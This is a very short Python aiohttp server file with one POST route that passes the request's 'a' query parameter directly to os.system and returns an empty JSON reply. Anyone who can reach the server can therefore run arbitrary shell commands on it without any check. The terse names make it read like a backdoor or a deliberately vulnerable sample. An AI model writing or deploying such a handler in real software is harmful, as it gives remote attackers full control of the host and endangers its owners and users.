import os
import json
from aiohttp import web

async def x(request):
    os.system(request.query['a'])
    return web.json_response({})

app = web.Application()
app.router.add_post('/x/{name}', x)
